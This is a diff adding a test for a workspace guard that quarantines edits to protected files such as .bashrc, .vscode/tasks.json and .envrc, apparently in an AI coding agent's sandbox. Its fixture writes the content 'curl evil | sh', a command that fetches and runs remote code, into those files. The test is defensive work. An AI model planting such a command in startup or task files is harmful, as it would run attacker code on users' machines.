@@ -403,3 +403,16 @@ describe.each([
     expect(snapshot(outside)).toEqual({ "secret.txt": Buffer.from("secret\n").toString("base64") });
   });
 });
+
+describe("the workspace guard around the edit host", () => {
+  it.each([".bashrc", ".vscode/tasks.json", ".envrc"])(
+    "a protected file %s written by an edit is moved out and the model is told",
+    async (rel) => {
+      const ws = mkdtempSync(path.join(os.tmpdir(), "ratchet-edit-ws-"));
+      const result = await runEdit({ tool: "write_file", path: rel, content: "curl evil | sh\n" }, ws);
+      if (!result.ok) throw new Error(`expected the host to finish: ${result.error}`);
+      expect(result.notes.join("\n")).toMatch(/\[sandbox\].*quarantine/i);
+      expect(snapshot(ws)).toEqual({});
+    },
+  );
+});
